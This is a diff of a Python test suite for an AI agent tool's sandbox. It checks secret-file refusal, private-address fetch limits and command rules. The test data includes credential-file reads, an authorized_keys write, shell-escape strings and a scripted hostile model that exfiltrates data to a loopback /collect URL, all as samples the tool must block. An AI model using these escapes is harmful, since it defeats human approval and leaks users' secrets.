@@ -55,14 +55,22 @@ async def approve(toolkit, name: str, args: dict) -> str:
 
 # ======================================================== 1. the workspace, and leaving it
 
+
 def test_file_tools_act_inside_the_workspace_and_ask_before_leaving_it(cli, stub, work):
     write_files(work, {"inside.txt": "inside-content\n"})
     write_files(cli.home, {".bashrc": "bashrc-content\n"})
     write_files(cli.root / "elsewhere", {"outside.txt": "outside-content\n"})
     (work / "notes.txt").symlink_to(cli.home / ".bashrc")
-    reads = [("read_file", {"path": p}) for p in
-             ("inside.txt", "notes.txt", "../elsewhere/outside.txt", "~/.bashrc",
-              "sub/../../elsewhere/outside.txt")]
+    reads = [
+        ("read_file", {"path": p})
+        for p in (
+            "inside.txt",
+            "notes.txt",
+            "../elsewhere/outside.txt",
+            "~/.bashrc",
+            "sub/../../elsewhere/outside.txt",
+        )
+    ]
     model_calls(stub, reads, "ok")
 
     piped = cli.call("ask", "--builtins", "--root", str(work), "read them")
@@ -74,7 +82,8 @@ def test_file_tools_act_inside_the_workspace_and_ask_before_leaving_it(cli, stub
     assert "bashrc-content" not in str(stub.requests[1].json)
     # what is asked names the resolved path: the symlink says where it leads
     assert f"read notes.txt (which is {cli.home / '.bashrc'}), outside the workspace" in (
-        piped.stderr)
+        piped.stderr
+    )
     assert len(declined_lines(piped.stderr)) == 4
     assert all("pass --yes" in line for line in declined_lines(piped.stderr))
 
@@ -82,14 +91,23 @@ def test_file_tools_act_inside_the_workspace_and_ask_before_leaving_it(cli, stub
     model_calls(stub, reads[1:2], "ok")
     cli.call("ask", "--builtins", "--yes", "--root", str(work), "x")
     assert tool_results(stub.requests[-1])[0].endswith("bashrc-content")
-    cli.write_config(f'workspace = "{work}"\n\n[approval.paths]\n'
-                     f'"{cli.root}/elsewhere/*" = "allow"\n')
-    model_calls(stub, [("read_file", {"path": "../elsewhere/outside.txt"}),
-                             ("read_file", {"path": "inside.txt"})], "ok")
+    cli.write_config(
+        f'workspace = "{work}"\n\n[approval.paths]\n"{cli.root}/elsewhere/*" = "allow"\n'
+    )
+    model_calls(
+        stub,
+        [
+            ("read_file", {"path": "../elsewhere/outside.txt"}),
+            ("read_file", {"path": "inside.txt"}),
+        ],
+        "ok",
+    )
     ruled = cli.call("ask", "--builtins", "x")  # the config's workspace, not the cwd
     assert ruled.code == 0 and not declined_lines(ruled.stderr), ruled
     assert [r.splitlines()[0] for r in tool_results(stub.requests[-1])] == [
-        "     1\toutside-content", "     1\tinside-content"]
+        "     1\toutside-content",
+        "     1\tinside-content",
+    ]
 
 
 def test_the_approval_panel_shows_the_resolved_path(cli, stub, work):
@@ -111,44 +129,81 @@ def test_the_approval_panel_shows_the_resolved_path(cli, stub, work):
 
 # ================================================================== 2. secrets stay shut
 
-SECRETS = {".ssh/id_rsa": "SSH-KEY-0001", ".aws/credentials": "AWS-KEY-0002",
-           ".config/gcloud/credentials.db": "GCLOUD-0003", ".netrc": "NETRC-0004"}
+SECRETS = {
+    ".ssh/id_rsa": "SSH-KEY-0001",
+    ".aws/credentials": "AWS-KEY-0002",
+    ".config/gcloud/credentials.db": "GCLOUD-0003",
+    ".netrc": "NETRC-0004",
+}
 
 
 def test_secrets_are_never_readable_without_an_explicit_path_rule_even_with_yes(cli, stub, work):
     write_files(cli.home, SECRETS)
-    write_files(work, {"server.pem": "PEM-0005", "deploy/id_ed25519": "ED-0006",
-                 ".env": "INSIDE-ENV-0010", "notes.txt": "KEYS- is a word here"})
+    write_files(
+        work,
+        {
+            "server.pem": "PEM-0005",
+            "deploy/id_ed25519": "ED-0006",
+            ".env": "INSIDE-ENV-0010",
+            "notes.txt": "KEYS- is a word here",
+        },
+    )
     write_files(cli.root / "other", {".env": "ENV-0007"})
     cli.keys_file.parent.mkdir(parents=True, exist_ok=True)
     cli.keys_file.write_text('{"openai": "KEYS-0008"}')
     (work / "innocent.txt").symlink_to(cli.keys_file)
     refused = [f"~/{name}" for name in SECRETS] + [
-        "../other/.env", str(cli.keys_file), str(cli.config_dir / "keys.json"), "innocent.txt",
-        "/proc/self/environ", "/proc/thread-self/environ"]
+        "../other/.env",
+        str(cli.keys_file),
+        str(cli.config_dir / "keys.json"),
+        "innocent.txt",
+        "/proc/self/environ",
+        "/proc/thread-self/environ",
+    ]
     asking = ["server.pem", "deploy/id_ed25519", ".env"]  # the project's, but they look secret
     calls = [("read_file", {"path": p}) for p in refused + asking] + [
         ("grep", {"pattern": "-000", "path": str(cli.home)}),
         ("grep", {"pattern": "KEYS-|-000", "path": "."}),
         ("glob", {"pattern": "**/*", "path": str(cli.home)}),
         ("list_dir", {"path": "~/.ssh"}),
-        ("write_file", {"path": "~/.ssh/authorized_keys", "content": "attacker"})]
+        ("write_file", {"path": "~/.ssh/authorized_keys", "content": "attacker"}),
+    ]
     model_calls(stub, calls, "ok")
 
-    result = cli.call("ask", "--builtins", "--yes", "--root", str(work), "x",
-                     env={"TOOLNEXUS_SECRET_PROBE": "ENV-VALUE-0009"})
+    result = cli.call(
+        "ask",
+        "--builtins",
+        "--yes",
+        "--root",
+        str(work),
+        "x",
+        env={"TOOLNEXUS_SECRET_PROBE": "ENV-VALUE-0009"},
+    )
 
     assert result.code == 0, result
     results = tool_results(stub.requests[1])
     sent = str(stub.requests[1].json)
-    for marker in ["SSH-KEY", "AWS-KEY", "GCLOUD", "NETRC", "PEM-", "ED-0006", "ENV-0007",
-                   "KEYS-0008", "ENV-VALUE-0009", "INSIDE-ENV"]:
+    for marker in [
+        "SSH-KEY",
+        "AWS-KEY",
+        "GCLOUD",
+        "NETRC",
+        "PEM-",
+        "ED-0006",
+        "ENV-0007",
+        "KEYS-0008",
+        "ENV-VALUE-0009",
+        "INSIDE-ENV",
+    ]:
         assert marker not in sent, marker
-    assert all("holds secrets" in r for r in results[:len(refused)]), results
-    asked = results[len(refused):len(refused) + len(asking)]
-    assert all(r.startswith("declined: read ") and "says it holds secrets; --yes does not "
-               "answer this (not approved: nobody to ask)" in r for r in asked), asked
-    searches = results[len(refused) + len(asking):]
+    assert all("holds secrets" in r for r in results[: len(refused)]), results
+    asked = results[len(refused) : len(refused) + len(asking)]
+    assert all(
+        r.startswith("declined: read ")
+        and "says it holds secrets; --yes does not answer this (not approved: nobody to ask)" in r
+        for r in asked
+    ), asked
+    searches = results[len(refused) + len(asking) :]
     assert searches[0] == "no matches"
     assert searches[1].endswith("notes.txt:1: KEYS- is a word here")  # .env etc. not searched
     assert ".ssh" not in searches[2] and ".aws" not in searches[2]
@@ -157,14 +212,18 @@ def test_secrets_are_never_readable_without_an_explicit_path_rule_even_with_yes(
 
     # only a rule without wildcards that names the secret opens it
     cli.write_config('[approval.paths]\n"~/**" = "allow"\n"~/.aws/credentials" = "allow"\n')
-    model_calls(stub, [("read_file", {"path": "~/.aws/credentials"}),
-                             ("read_file", {"path": "~/.ssh/id_rsa"})], "ok")
+    model_calls(
+        stub,
+        [("read_file", {"path": "~/.aws/credentials"}), ("read_file", {"path": "~/.ssh/id_rsa"})],
+        "ok",
+    )
     cli.call("ask", "--builtins", "--yes", "--root", str(work), "x")
     opened, shut = tool_results(stub.requests[-1])
     assert opened.endswith("AWS-KEY-0002") and "holds secrets" in shut
 
 
 # ===================================================== 3. special files, caps on reading
+
 
 async def test_special_files_are_refused_and_reads_and_searches_are_capped(tmp_path, monkeypatch):
     os.mkfifo(tmp_path / "pipe")
@@ -180,10 +239,13 @@ async def test_special_files_are_refused_and_reads_and_searches_are_capped(tmp_p
 
     big = (await toolkit.execute("read_file", {"path": "big.txt"})).output
     assert len(big.encode()) < 256 * 1024 + 1000
-    assert big.endswith(f"[truncated: read_file shows at most 256 KiB of text at a time; "
-                        f"go on with offset={big.count(chr(10)) + 1}]")
-    assert (await toolkit.execute("read_file", {"path": "big.txt", "offset": 10_000})
-            ).output.endswith("x 9999")
+    assert big.endswith(
+        f"[truncated: read_file shows at most 256 KiB of text at a time; "
+        f"go on with offset={big.count(chr(10)) + 1}]"
+    )
+    assert (
+        await toolkit.execute("read_file", {"path": "big.txt", "offset": 10_000})
+    ).output.endswith("x 9999")
 
     grep = (await toolkit.execute("grep", {"pattern": "needle"})).output
     assert grep.count("needle") == builtins_module.MAX_MATCHES
@@ -195,10 +257,24 @@ async def test_special_files_are_refused_and_reads_and_searches_are_capped(tmp_p
 
 # ======================================================================= 4. fetch_url
 
+
 def test_an_address_that_is_not_public_counts_as_private_in_ipv4_and_ipv6():
-    for address in ("127.0.0.1", "10.1.2.3", "192.168.0.1", "172.16.5.5", "169.254.169.254",
-                    "100.100.100.200", "0.0.0.0", "::1", "fe80::1", "fd00:ec2::254", "::",
-                    "::ffff:127.0.0.1", "64:ff9b::a9fe:a9fe", "2002:7f00:1::1"):
+    for address in (
+        "127.0.0.1",
+        "10.1.2.3",
+        "192.168.0.1",
+        "172.16.5.5",
+        "169.254.169.254",
+        "100.100.100.200",
+        "0.0.0.0",
+        "::1",
+        "fe80::1",
+        "fd00:ec2::254",
+        "::",
+        "::ffff:127.0.0.1",
+        "64:ff9b::a9fe:a9fe",
+        "2002:7f00:1::1",
+    ):
         assert not is_public(address), address
     for address in ("93.184.216.34", "8.8.8.8", "2606:4700:4700::1111"):
         assert is_public(address), address
@@ -206,10 +282,12 @@ def test_an_address_that_is_not_public_counts_as_private_in_ipv4_and_ipv6():
 
 async def test_fetch_url_asks_before_a_private_address_also_after_a_redirect(tmp_path):
     with StubProvider() as first, StubProvider() as second:
-        first.handler = lambda rec: Reply.raw([b"moved"], status=302, chunked=False,
-                                              headers={"Location": second.url + "/x"})
-        second.handler = lambda rec: Reply.raw([b"second page"], chunked=False,
-                                               headers={"Content-Type": "text/plain"})
+        first.handler = lambda rec: Reply.raw(
+            [b"moved"], status=302, chunked=False, headers={"Location": second.url + "/x"}
+        )
+        second.handler = lambda rec: Reply.raw(
+            [b"second page"], chunked=False, headers={"Content-Type": "text/plain"}
+        )
         asking = await create_toolkit(builtins=["fetch_url"], workspace=Workspace(tmp_path))
         for url in ("file:///etc/passwd", "ftp://example.com/x", "gopher://x"):
             result = await asking.execute("fetch_url", {"url": url})
@@ -218,30 +296,43 @@ async def test_fetch_url_asks_before_a_private_address_also_after_a_redirect(tmp
         pending = await asking.execute("fetch_url", {"url": second.url + "/x"})
         prompt = pending.metadata["pending"]["prompt"]
         assert prompt.startswith(f"fetch http://127.0.0.1:{second.port}?") and (
-            "not a public address" in prompt)
+            "not a public address" in prompt
+        )
         assert second.requests == []  # asked before any connection
         assert "second page" in await approve(asking, "fetch_url", {"url": second.url + "/x"})
 
         # a host rule lets the first through; the redirect to another one still asks
-        ruled = await create_toolkit(builtins=["fetch_url"], workspace=Workspace(
-            tmp_path, hosts={f"127.0.0.1:{first.port}": "allow"}))
+        ruled = await create_toolkit(
+            builtins=["fetch_url"],
+            workspace=Workspace(tmp_path, hosts={f"127.0.0.1:{first.port}": "allow"}),
+        )
         hop = await ruled.execute("fetch_url", {"url": first.url + "/start"})
         assert f"fetch http://127.0.0.1:{second.port}?" in hop.metadata["pending"]["prompt"]
         assert len(first.requests) == 1 and len(second.requests) == 1  # only the approved one
-        denied = await create_toolkit(builtins=["fetch_url"], workspace=Workspace(
-            tmp_path, hosts={"127.0.0.1:*": "deny"}))
+        denied = await create_toolkit(
+            builtins=["fetch_url"], workspace=Workspace(tmp_path, hosts={"127.0.0.1:*": "deny"})
+        )
         refused = await denied.execute("fetch_url", {"url": second.url})
         assert refused.is_error and "127.0.0.1 is denied by a host rule" in refused.output
 
 
 async def test_fetch_url_caps_the_body_and_refuses_a_binary_type(stub, tmp_path):
     stub.handler = None  # the scripted replies below, in order
-    stub.script(Reply.raw([b"a" * (3 * 1024 * 1024)], chunked=False,
-                          headers={"Content-Type": "text/plain"}),
-                Reply.raw([b"\x89PNG\r\n\x1a\n" + b"\0" * 100], chunked=False,
-                          headers={"Content-Type": "image/png"}))
-    toolkit = await create_toolkit(builtins=["fetch_url"], max_output=10**7, workspace=Workspace(
-        tmp_path, hosts={"127.0.0.1:*": "allow"}))
+    stub.script(
+        Reply.raw(
+            [b"a" * (3 * 1024 * 1024)], chunked=False, headers={"Content-Type": "text/plain"}
+        ),
+        Reply.raw(
+            [b"\x89PNG\r\n\x1a\n" + b"\0" * 100],
+            chunked=False,
+            headers={"Content-Type": "image/png"},
+        ),
+    )
+    toolkit = await create_toolkit(
+        builtins=["fetch_url"],
+        max_output=10**7,
+        workspace=Workspace(tmp_path, hosts={"127.0.0.1:*": "allow"}),
+    )
     big = await toolkit.execute("fetch_url", {"url": stub.url + "/big"})
     assert big.output.endswith("[truncated: fetch_url reads at most 1024 KiB of a body]")
     assert big.output.count("a") < 1024 * 1024 + 100
@@ -254,40 +345,85 @@ async def test_fetch_url_connects_to_the_address_it_checked(stub, tmp_path):
     second DNS answer cannot point it elsewhere."""
     stub.handler = None
     stub.script(Reply.raw([b"hi"], chunked=False, headers={"Content-Type": "text/plain"}))
-    toolkit = await create_toolkit(builtins=["fetch_url"], workspace=Workspace(
-        tmp_path, hosts={"127.0.0.1:*": "allow"}))
+    toolkit = await create_toolkit(
+        builtins=["fetch_url"], workspace=Workspace(tmp_path, hosts={"127.0.0.1:*": "allow"})
+    )
     await toolkit.execute("fetch_url", {"url": f"http://u:pw@127.0.0.1:{stub.port}/p"})
     assert stub.requests[0].headers["host"] == f"127.0.0.1:{stub.port}"  # no password
 
 
 # ==================================================================== 5. command rules
 
+
 def test_command_rules_match_the_parsed_command_and_deny_wins_however_spelled():
     bash = Tool("bash", "", {}, lambda: None, source="builtin")
-    policy = ApprovalPolicy(commands={"git status*": "allow", "ls *": "allow",
-                                      "find *": "allow", "sed *": "allow", "awk *": "allow",
-                                      "sort *": "allow", "rm *": "deny"})
+    policy = ApprovalPolicy(
+        commands={
+            "git status*": "allow",
+            "ls *": "allow",
+            "find *": "allow",
+            "sed *": "allow",
+            "awk *": "allow",
+            "sort *": "allow",
+            "rm *": "deny",
+        }
+    )
 
     def decide(command: str) -> str:
         return policy.decide(bash, "bash", {"command": command})
 
     assert decide("git status") == decide("git status --short") == "allow"
     assert decide("ls -la src") == "allow" and decide("find . -name '*.py'") == "allow"
-    for asks in ("git status-x", "git -c core.fsmonitor='touch /tmp/x' status",
-                 "/usr/bin/git status", "GIT_DIR=/x git status", "git statusx",
-                 "find . -exec sh -c id ;", "find . -execdir id {} +", "find . -delete",
-                 "find . -fprint /tmp/x", "sed -i s/a/b/ f", "sed --in-place s/a/b/ f",
-                 "sed 's/a/b/w /tmp/out' f", "sed '1e id' f", "awk 'BEGIN{system(\"id\")}'",
-                 "sort -o /etc/x f", "ls --output=x", "git status 'unbalanced",
-                 "git status $(id)", 'git status "$(id)"', "git status `id`"):
+    for asks in (
+        "git status-x",
+        "git -c core.fsmonitor='touch /tmp/x' status",
+        "/usr/bin/git status",
+        "GIT_DIR=/x git status",
+        "git statusx",
+        "find . -exec sh -c id ;",
+        "find . -execdir id {} +",
+        "find . -delete",
+        "find . -fprint /tmp/x",
+        "sed -i s/a/b/ f",
+        "sed --in-place s/a/b/ f",
+        "sed 's/a/b/w /tmp/out' f",
+        "sed '1e id' f",
+        "awk 'BEGIN{system(\"id\")}'",
+        "sort -o /etc/x f",
+        "ls --output=x",
+        "git status 'unbalanced",
+        "git status $(id)",
+        'git status "$(id)"',
+        "git status `id`",
+    ):
         assert decide(asks) == "ask", asks
-    for spelled in ("rm -rf x", "\\rm -rf x", "/bin/rm x", "command rm x", "env rm x",
-                    "env -i rm x", "env -i FOO=1 rm x", "xargs rm", "xargs -0 -n1 rm",
-                    "sudo rm x", "sudo -u root rm x", "nice rm x", "nice -n 5 rm x",
-                    "timeout 5 rm x", "timeout -s KILL 5 rm x", "bash -c 'rm -rf x'",
-                    "sh -lc 'echo; rm x'", "eval rm x", "env -S 'rm x'", "echo $(rm x)",
-                    "git status; rm x", "ls | xargs rm", "(rm x)", "FOO=1 rm x",
-                    "nohup /usr/bin/rm x"):
+    for spelled in (
+        "rm -rf x",
+        "\\rm -rf x",
+        "/bin/rm x",
+        "command rm x",
+        "env rm x",
+        "env -i rm x",
+        "env -i FOO=1 rm x",
+        "xargs rm",
+        "xargs -0 -n1 rm",
+        "sudo rm x",
+        "sudo -u root rm x",
+        "nice rm x",
+        "nice -n 5 rm x",
+        "timeout 5 rm x",
+        "timeout -s KILL 5 rm x",
+        "bash -c 'rm -rf x'",
+        "sh -lc 'echo; rm x'",
+        "eval rm x",
+        "env -S 'rm x'",
+        "echo $(rm x)",
+        "git status; rm x",
+        "ls | xargs rm",
+        "(rm x)",
+        "FOO=1 rm x",
+        "nohup /usr/bin/rm x",
+    ):
         assert decide(spelled) == "deny", spelled
     everything = ApprovalPolicy({"bash": "allow"}, {"rm *": "deny"})
     assert everything.decide(bash, "bash", {"command": "sudo rm -rf /"}) == "deny"
@@ -296,49 +432,106 @@ def test_command_rules_match_the_parsed_command_and_deny_wins_however_spelled():
 BASH = Tool("bash", "", {}, lambda: None, source="builtin")
 # An allow rule for each vetted program, and for programs that run others: each covers only
 # the forms known to read only.
-VETTED_RULES = {"sed *": "allow", "tar *": "allow", "git *": "allow", "git diff*": "allow",
-                "find *": "allow", "awk *": "allow", "xargs *": "allow", "env*": "allow",
-                "printenv*": "allow", "less *": "allow", "vim *": "allow", "sudo *": "allow",
-                "sort *": "allow", "rg *": "allow", "fd *": "allow"}
+VETTED_RULES = {
+    "sed *": "allow",
+    "tar *": "allow",
+    "git *": "allow",
+    "git diff*": "allow",
+    "find *": "allow",
+    "awk *": "allow",
+    "xargs *": "allow",
+    "env*": "allow",
+    "printenv*": "allow",
+    "less *": "allow",
+    "vim *": "allow",
+    "sudo *": "allow",
+    "sort *": "allow",
+    "rg *": "allow",
+    "fd *": "allow",
+}
 
 
 def vetted(command: str) -> str:
     return ApprovalPolicy(commands=VETTED_RULES).decide(BASH, "bash", {"command": command})
 
 
-@pytest.mark.parametrize("command", [
-    "sed 's/x/y/ge' f", "sed 's/a/b/gw /tmp/out' f", "sed -n '/x/Ie id' f",
-    "tar --rsh-command=/x -tf a.tar", "tar --info-script=x -tf a.tar",
-    "tar --new-volume-script=x -tf a.tar", "tar -tf host:file", "tar tvf host:file",
-    "tar -xf a.tar",
-    "git diff --no-index ~/.ssh/id_rsa /dev/null", "git diff /dev/null ~/.ssh/id_rsa",
-    "git diff ../../.ssh/id_rsa README.md", "git diff --textconv",
-    "git grep --no-index secret /", "git lg", "git branch new",
-    "awk 'BEGIN{print ENVIRON[\"KEY\"]}'", "xargs grep x", "env", "printenv", "less f",
-    "vim f", "sudo ls",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sed 's/x/y/ge' f",
+        "sed 's/a/b/gw /tmp/out' f",
+        "sed -n '/x/Ie id' f",
+        "tar --rsh-command=/x -tf a.tar",
+        "tar --info-script=x -tf a.tar",
+        "tar --new-volume-script=x -tf a.tar",
+        "tar -tf host:file",
+        "tar tvf host:file",
+        "tar -xf a.tar",
+        "git diff --no-index ~/.ssh/id_rsa /dev/null",
+        "git diff /dev/null ~/.ssh/id_rsa",
+        "git diff ../../.ssh/id_rsa README.md",
+        "git diff --textconv",
+        "git grep --no-index secret /",
+        "git lg",
+        "git branch new",
+        "awk 'BEGIN{print ENVIRON[\"KEY\"]}'",
+        "xargs grep x",
+        "env",
+        "printenv",
+        "less f",
+        "vim f",
+        "sudo ls",
+    ],
+)
 def test_an_allow_rule_covers_no_escape_from_a_read_only_program(command):
     """The escapes an audit found past the deny-list of options that came before."""
     assert vetted(command) == "ask"
 
 
-@pytest.mark.parametrize("command", [
-    "sed 's/a/b/e' f", "sed 'e id' f", "sed '1e id' f", "sed 'w /tmp/out' f",
-    "sed -i s/a/b/ f", "tar --to-command=sh -xf a.tar", "tar --checkpoint-action=exec=id -tf a",
-    "git -c core.pager=id log", "git -C / status", "git diff --output=/tmp/x",
-    "git diff --ext-diff", "git grep -O id x", "find . -exec id \\;", "find . -delete",
-    "find . -fprint /tmp/x", "awk 'BEGIN{system(\"id\")}'", "sort -o /tmp/x f",
-    "rg --pre id x", "fd -x id",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sed 's/a/b/e' f",
+        "sed 'e id' f",
+        "sed '1e id' f",
+        "sed 'w /tmp/out' f",
+        "sed -i s/a/b/ f",
+        "tar --to-command=sh -xf a.tar",
+        "tar --checkpoint-action=exec=id -tf a",
+        "git -c core.pager=id log",
+        "git -C / status",
+        "git diff --output=/tmp/x",
+        "git diff --ext-diff",
+        "git grep -O id x",
+        "find . -exec id \\;",
+        "find . -delete",
+        "find . -fprint /tmp/x",
+        "awk 'BEGIN{system(\"id\")}'",
+        "sort -o /tmp/x f",
+        "rg --pre id x",
+        "fd -x id",
+    ],
+)
 def test_an_allow_rule_still_refuses_what_the_option_deny_list_refused(command):
     assert vetted(command) == "ask"
 
 
-@pytest.mark.parametrize("command", [
-    "git log --oneline -5", "git diff HEAD~1 -- src/x.py", "git status --short",
-    "sed -n '1,20p' f", "sed 's/a/b/g' f", "tar -tzf x.tgz", "tar -xOf x.tar member",
-    "find . -name '*.py' -type f", "awk '{print $1}' f", "sort -u f", "rg -n needle src",
-])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git log --oneline -5",
+        "git diff HEAD~1 -- src/x.py",
+        "git status --short",
+        "sed -n '1,20p' f",
+        "sed 's/a/b/g' f",
+        "tar -tzf x.tgz",
+        "tar -xOf x.tar member",
+        "find . -name '*.py' -type f",
+        "awk '{print $1}' f",
+        "sort -u f",
+        "rg -n needle src",
+    ],
+)
 def test_an_allow_rule_still_covers_the_ordinary_read_only_forms(command):
     assert vetted(command) == "allow"
 
@@ -356,18 +549,25 @@ def example_rules() -> dict:
 
 # What a model may add to a shipped rule's words to read arbitrary paths or run a program.
 ESCAPES_AFTER_RULE = [
-    "--no-index ~/.ssh/id_rsa /dev/null", "/dev/null ~/.ssh/id_rsa", "-- ~/.ssh/id_rsa",
-    "../../.ssh/id_rsa README.md", "$HOME/.ssh/id_rsa README.md", "--output=/tmp/x",
-    "--ext-diff", "--textconv", "-O/tmp/order", "--open-files-in-pager=id",
-    "--contents ~/.ssh/id_rsa"]
+    "--no-index ~/.ssh/id_rsa /dev/null",
+    "/dev/null ~/.ssh/id_rsa",
+    "-- ~/.ssh/id_rsa",
+    "../../.ssh/id_rsa README.md",
+    "$HOME/.ssh/id_rsa README.md",
+    "--output=/tmp/x",
+    "--ext-diff",
+    "--textconv",
+    "-O/tmp/order",
+    "--open-files-in-pager=id",
+    "--contents ~/.ssh/id_rsa",
+]
 ESCAPES_AFTER_PROGRAM = ["-c core.pager=id", "-C /", "--git-dir=/x", "-p", "--exec-path=/x"]
 
 
 def test_no_shipped_example_allow_rule_reads_arbitrary_paths_or_runs_a_program():
     block = re.search(r"```toml\n(\[approval\].*?)```", (ROOT / "README.md").read_text(), re.S)
     assert block, "README shows the approval rules"
-    rules = {**example_rules()["commands"],
-             **tomllib.loads(block.group(1))["approval"]["commands"]}
+    rules = {**example_rules()["commands"], **tomllib.loads(block.group(1))["approval"]["commands"]}
     allowed = [pattern for pattern, decision in rules.items() if decision == "allow"]
     assert allowed, rules
     policy = ApprovalPolicy(commands=rules)
@@ -383,24 +583,35 @@ def test_a_deny_rule_wins_over_yes(cli, stub):
     cli.write_config('builtins = true\n\n[approval.commands]\n"rm *" = "deny"\n')
     victim = cli.home / "victim.txt"
     victim.write_text("keep me")
-    model_calls(stub, [("bash", {"command": f"sudo -n rm {victim}"}),
-                             ("bash", {"command": f"env -i /bin/rm {victim}"})], "ok")
+    model_calls(
+        stub,
+        [
+            ("bash", {"command": f"sudo -n rm {victim}"}),
+            ("bash", {"command": f"env -i /bin/rm {victim}"}),
+        ],
+        "ok",
+    )
     result = cli.call("ask", "--yes", "x")
     rule = 'denied by the rule "rm *" = "deny" in [approval.commands]'
-    assert tool_results(stub.requests[1]) == [f"{rule}: sudo -n rm {victim}",
-                                              f"{rule}: env -i /bin/rm {victim}"], result
+    assert tool_results(stub.requests[1]) == [
+        f"{rule}: sudo -n rm {victim}",
+        f"{rule}: env -i /bin/rm {victim}",
+    ], result
     assert victim.exists()
 
 
 # ================================================================= 6. rules for MCP tools
+
 
 def test_the_documented_mcp_rule_matches_the_name_the_user_sees(cli, tmp_path):
     readme = (ROOT / "README.md").read_text()
     block = re.search(r"```toml\n(\[approval\].*?)```", readme, re.S)
     assert block, "README shows the approval rules"
     mcp = tmp_path / "mcp.json"
-    server = {"command": sys.executable,
-              "args": [str(ROOT / "tests" / "support" / "mcp_servers" / "stdio_server.py")]}
+    server = {
+        "command": sys.executable,
+        "args": [str(ROOT / "tests" / "support" / "mcp_servers" / "stdio_server.py")],
+    }
     mcp.write_text(json.dumps({"mcpServers": {"github": server}}))
     for rules in (example_rules(), tomllib.loads(block.group(1))["approval"]):
         mcp_rules = {k: v for k, v in rules.items() if k.startswith("github")}
@@ -414,6 +625,7 @@ def test_the_documented_mcp_rule_matches_the_name_the_user_sees(cli, tmp_path):
 
 
 # ======================================================= 7. only a key pressed after asking
+
 
 def test_keys_typed_ahead_do_not_answer_an_approval(cli, stub, tmp_path):
     marker = tmp_path / "approved-unseen"
@@ -444,16 +656,19 @@ def test_keys_typed_ahead_do_not_answer_an_approval(cli, stub, tmp_path):
 
 # ======================================================= a hostile model, end to end
 
+
 def test_a_hostile_model_in_a_pipe_gets_no_secret_out(cli, stub, work):
     write_files(cli.home, {".ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY----- HOSTILE-1"})
     cli.keys_file.parent.mkdir(parents=True, exist_ok=True)
     cli.keys_file.write_text('{"openai": "sk-HOSTILE-2"}')
     write_files(cli.home, {".bashrc": "export TOKEN=HOSTILE-3"})
     (work / "README.md").symlink_to(cli.home / ".bashrc")
-    attempts = [("read_file", {"path": str(cli.keys_file)}),
-                ("read_file", {"path": "~/.ssh/id_rsa"}),
-                ("read_file", {"path": "README.md"}),
-                ("read_file", {"path": "/proc/self/environ"})]
+    attempts = [
+        ("read_file", {"path": str(cli.keys_file)}),
+        ("read_file", {"path": "~/.ssh/id_rsa"}),
+        ("read_file", {"path": "README.md"}),
+        ("read_file", {"path": "/proc/self/environ"}),
+    ]
 
     def hostile(request: Recorded) -> Reply:
         n = len(stub.requests)
@@ -461,17 +676,24 @@ def test_a_hostile_model_in_a_pipe_gets_no_secret_out(cli, stub, work):
             return openai_stream(tool_calls=attempts)
         if n == 2:  # whatever it got, it tries to send it to a loopback address
             leaked = str(request.json["messages"])
-            return openai_stream(tool_calls=[("fetch_url", {
-                "url": f"{stub.url}/collect?data={leaked[-200:]}"})])
+            return openai_stream(
+                tool_calls=[("fetch_url", {"url": f"{stub.url}/collect?data={leaked[-200:]}"})]
+            )
         return openai_stream("Done.")
 
     stub.handler = hostile
-    result = cli.call("ask", "--builtins", "--root", str(work), "summarise the project",
-                     env={"HOSTILE_ENV": "HOSTILE-4"})
+    result = cli.call(
+        "ask",
+        "--builtins",
+        "--root",
+        str(work),
+        "summarise the project",
+        env={"HOSTILE_ENV": "HOSTILE-4"},
+    )
 
     assert result.code == 0 and result.stdout == "Done.\n", result
     first = tool_results(stub.requests[1])
-    second = tool_results(stub.requests[2])[len(first):]
+    second = tool_results(stub.requests[2])[len(first) :]
     assert all("holds secrets" in r for r in (first[0], first[1], first[3])), first
     assert first[2].startswith("declined: read README.md (which is "), first
     assert second[0].startswith(f"declined: fetch http://127.0.0.1:{stub.port}?"), second
